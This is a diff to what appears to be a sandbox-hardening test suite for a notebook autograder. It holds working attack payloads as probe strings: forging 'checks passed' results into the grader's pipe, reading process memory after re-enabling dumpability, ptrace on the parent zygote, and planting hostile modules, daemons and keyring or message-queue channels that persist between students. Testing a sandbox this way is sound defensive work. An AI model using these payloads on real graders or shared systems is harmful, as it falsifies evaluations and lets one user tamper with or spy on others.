@@ -15,13 +15,18 @@ import pickle
 # (a) the result pipe, found in /proc/self/fd; the job (probe ids) found with gc; every cell "passed"
 FORGE_PIPE = """\
 import gc, os
-from autograder.sandbox.codec import encode_frame
+from autograder.sandbox.codec import encode_frame, pack, unpack
+def _sig(p):
+    try:
+        return {{'output': pack(unpack(p['inputs'], namespace=globals())['args'][0] * 0)}}
+    except Exception:
+        return {{'output': pack(0.5)}}
 _job = next((o for o in gc.get_objects() if isinstance(o, dict) and isinstance(o.get('cells'), list) and 'limits' in o), None)
 _cells = [c['index'] for c in _job['cells']] if _job else list(range(40))
-_ids = [p['id'] for c in (_job['cells'] if _job else []) for p in c.get('probes', [])] or list(range(300))
+_probes = [p for c in (_job['cells'] if _job else []) for p in c.get('probes', [])] or [{{'id': i}} for i in range(300)]
 _ok = [{{'output_type': 'stream', 'name': 'stdout', 'text': 'checks passed\\n'}}{extra}]
 _frames = [encode_frame({{'op': 'cell', 'index': i, 'execution_count': 1, 'outputs': _ok}}) for i in _cells]
-_frames += [encode_frame({{'op': 'probe', 'id': i, 'signature': {{'output': 0.5}}}}) for i in _ids]
+_frames += [encode_frame({{'op': 'probe', 'id': p['id'], 'signature': _sig(p)}}) for p in _probes]
 _frames.append(encode_frame({{'op': 'done'}}))
 for _fd in range(3, 64):
     try:
@@ -113,7 +118,8 @@ print('SCAN DONE' if _seen['probes'] and _seen['control'] else 'SCAN FAILED')
 """
 
 MEM_SCAN = """
-import os
+import ctypes, os, time
+_t0 = time.monotonic()
 _pairs = [(a.encode(), b.encode()) for a, b in {pairs!r}]
 _control = tuple(x.encode() for x in {control!r})
 _hits, _found = {{'control': 0}}, set()
@@ -128,10 +134,15 @@ def _scan(buf):
                     _found.add(k)
                 break
             i = buf.find(a, i + 1)
+try:
+    _mem, _how = open('/proc/self/mem', 'rb', buffering=0), '/proc/self/mem'
+except PermissionError:  # a non-dumpable process: its /proc files are root's; it may make itself dumpable again
+    ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE
+    _mem, _how = open('/proc/self/mem', 'rb', buffering=0), '/proc/self/mem after PR_SET_DUMPABLE'
 with open('/proc/self/maps') as _f:
     _regions = [line.split() for line in _f]
 _total = 0
-with open('/proc/self/mem', 'rb', buffering=0) as _mem:
+with _mem:
     for _r in _regions:
         _lo, _hi = (int(x, 16) for x in _r[0].split('-'))
         _path = _r[5] if len(_r) > 5 else ''
@@ -145,7 +156,7 @@ with open('/proc/self/mem', 'rb', buffering=0) as _mem:
                 break
             _total += len(_buf)
             _scan(_buf)
-print('LE' + 'AK' if _found else 'clean', sorted(_found), _hits, f'{{_total >> 20}} MiB read')
+print('LE' + 'AK' if _found else 'clean', sorted(_found), _hits, f'{{_total >> 20}} MiB read through {{_how}} in {{time.monotonic() - _t0:.1f}}s')
 print('SCAN DONE' if _hits['control'] else 'SCAN FAILED')
 """
 
@@ -200,6 +211,8 @@ def pickle_computed() -> str:
 # -- class 4: the zygote (the process every student's kernel is forked from) ------------------------------
 ZYGOTE_PROC = """
 import os, ctypes
+_libc = ctypes.CDLL(None, use_errno=True)
+_libc.prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE: this process's own /proc files are its own again
 _pp = os.getppid()
 _res = {}
 for _what in ('mem', 'environ', 'maps', 'fd', 'cwd'):
@@ -214,7 +227,6 @@ for _what in ('mem', 'environ', 'maps', 'fd', 'cwd'):
                 _res[_what] = 'LE' + 'AK ' + repr(_f.read(64))
     except OSError as e:
         _res[_what] = 'denied (' + type(e).__name__ + ')'
-_libc = ctypes.CDLL(None, use_errno=True)
 _res['ptrace'] = 'LE' + 'AK attached' if _libc.ptrace(16, _pp, 0, 0) == 0 else 'denied (' + os.strerror(ctypes.get_errno()) + ')'
 print('zygote', _pp, _res)
 """
@@ -222,18 +234,22 @@ print('zygote', _pp, _res)
 # -- class 6: what one student leaves in /tmp, /dev/shm and SysV IPC for the next --------------------------
 EVIL = "raise SystemExit('a planted module ran')\\n"
 PLANT_FILES = f"""
-import os, time, errno
+import os, time, errno, signal
+signal.setitimer(signal.ITIMER_REAL, 0)  # filling /tmp may be slow on a loaded machine: no cell timer
 _evil = "{EVIL}"
-for _d in ('/tmp/secrets', '/tmp/locked/deeper', '/tmp/.ipython/profile_default/startup'):
-    os.makedirs(_d, exist_ok=True)
+_done, _refused = [], []
+def _plant(path, text=_evil):
+    try:
+        os.makedirs(os.path.dirname(path), exist_ok=True)
+        with open(path, 'w') as f:
+            f.write(text)
+        _done.append(path)
+    except OSError as e:
+        _refused.append(f'{{path}} ({{e.strerror}})')
 for _p in ('/tmp/secrets/__init__.py', '/tmp/secrets.py', '/tmp/sitecustomize.py', '/tmp/dlcourse.py', '/tmp/torch.py',
-           '/tmp/locked/deeper/numpy.py', '/tmp/.ipython/profile_default/startup/00.py', '/tmp/matplotlibrc'):
-    with open(_p, 'w') as _f:
-        _f.write(_evil)
-with open('/tmp/answers.txt', 'w') as _f:
-    _f.write('ANSWERS FROM AN EARLIER STUDENT')
-with open('/dev/shm/planted', 'w') as _f:
-    _f.write('planted')
+           '/tmp/locked/deeper/numpy.py', '/tmp/.ipython/profile_default/startup/00.py', '/tmp/matplotlibrc', '/dev/shm/planted'):
+    _plant(_p)
+_plant('/tmp/answers.txt', 'ANSWERS FROM AN EARLIER STUDENT')
 for _d in ('/tmp/locked/deeper', '/tmp/locked', '/tmp/secrets'):
     os.chmod(_d, 0o555)
 if os.fork() == 0:  # a daemon that plants again once the grader has cleaned up
@@ -257,7 +273,19 @@ for _k in range(20):
         _full = e.errno == errno.ENOSPC
         if _full:
             break
-print('PLANTED', sorted(os.listdir('/tmp')), 'TMP FULL' if _full else 'tmp not full')
+print('PLANTED', len(_done), 'files; refused:', _refused, 'TMP FULL' if _full else 'tmp not full')
+"""
+
+# channels that outlive a student: a POSIX message queue (the zygote's IPC namespace) and a key in the
+# user keyring (the zygote's uid)
+PLANT_CHANNELS = """
+import ctypes, os
+_libc = ctypes.CDLL(None, use_errno=True)
+_libc.syscall.restype = ctypes.c_long
+_q = _libc.mq_open(b'/dlc_leak', os.O_CREAT | os.O_RDWR, 0o666, None)
+_sent = _q >= 0 and _libc.mq_send(_q, b'MQ SECRET', 9, 0) == 0
+_key = _libc.syscall(248, b'user', b'dlc_leak', b'KEY SECRET', 10, ctypes.c_int(-4))  # add_key(..., KEY_SPEC_USER_KEYRING)
+print('PLANTED CHANNELS', 'mq' if _sent else 'no mq', 'key' if _key > 0 else 'no key')
 """
 
 PLANT_IPC = PLANT_FILES + """
@@ -282,33 +310,58 @@ for _p in ('/tmp/answers.txt', '/tmp/secrets.py', '/dev/shm/planted'):
     except OSError:
         pass
 _libc = ctypes.CDLL(None, use_errno=True)
+_libc.syscall.restype = ctypes.c_long
 if _libc.shmget(0x5EC2E7, 0, 0o666) != -1 or _libc.msgget(0x5EC2E8, 0o666) != -1:
     _found.append('a SysV object of an earlier student')
 import secrets
-if not secrets.__file__.startswith(sys.prefix) and not secrets.__file__.startswith(sys.base_prefix):
+if not secrets.__file__.startswith((sys.prefix, sys.base_prefix)):
     _found.append('secrets from ' + secrets.__file__)
 _st = os.statvfs('/tmp')
 if _st.f_bavail * _st.f_frsize < 400 * 2**20:
     _found.append('/tmp is full')
 print('LE' + 'AK' if _found else 'NOTHING LEFT', _found[:5])
+_channels = []
+_q = _libc.mq_open(b'/dlc_leak', os.O_RDWR | os.O_NONBLOCK, 0, None)
+if _q >= 0:
+    _buf = ctypes.create_string_buffer(8192)
+    _n = _libc.mq_receive(_q, _buf, 8192, None)
+    _channels.append('mq: ' + repr(_buf.raw[:max(_n, 0)]))
+_id = _libc.syscall(250, 10, ctypes.c_int(-4), b'user', b'dlc_leak', 0)  # KEYCTL_SEARCH in the user keyring
+if _id > 0:
+    _b = ctypes.create_string_buffer(100)
+    _n = _libc.syscall(250, 11, ctypes.c_long(_id), _b, 100)  # KEYCTL_READ
+    _channels.append('key: ' + repr(_b.raw[:max(_n, 0)]))
+print('CHANNEL' if _channels else 'NO CHANNEL', _channels)
 """
 
 # -- class 7: limits ------------------------------------------------------------------------------------------
 HOGS = """
-import os, time
+import os, select, signal, time
+signal.setitimer(signal.ITIMER_REAL, 0)  # no cell timer: on a loaded machine the memory limit, not the clock, decides
+_ready, _told = os.pipe()
 _kids = []
 for _k in range({n}):
     _pid = os.fork()
-    if _pid == 0:
-        try:
-            _hold = b'x' * 2**30
-            time.sleep(2)
-        finally:
-            os._exit(0)
+    if _pid == 0:  # a child: hold 1 GiB until the others hold theirs too (the parent then kills it)
+        _hold = b'x' * 2**30
+        os.write(_told, b'!')
+        time.sleep(120)
+        os._exit(0)
     _kids.append(_pid)
-_status = [os.waitpid(p, 0)[1] for p in _kids]
-print('children:', [os.waitstatus_to_exitcode(s) for s in _status])
-if any(os.WIFSIGNALED(s) for s in _status):
+os.close(_told)
+_got, _early = 0, {{}}
+while _got < {n} and not _early:
+    if select.select([_ready], [], [], 0.1)[0]:
+        _got += len(os.read(_ready, 16))
+    for _p in _kids:
+        if _p not in _early and os.waitpid(_p, os.WNOHANG)[0]:
+            _early[_p] = 'killed'
+for _p in _kids:
+    if _p not in _early:
+        os.kill(_p, signal.SIGKILL)
+        os.waitpid(_p, 0)
+print('children holding 1 GiB at once:', _got, 'died on the way:', len(_early))
+if _early:
     raise MemoryError('a child holding 1 GiB was killed (out of memory)')
 print('HELD {n} GiB')
 """
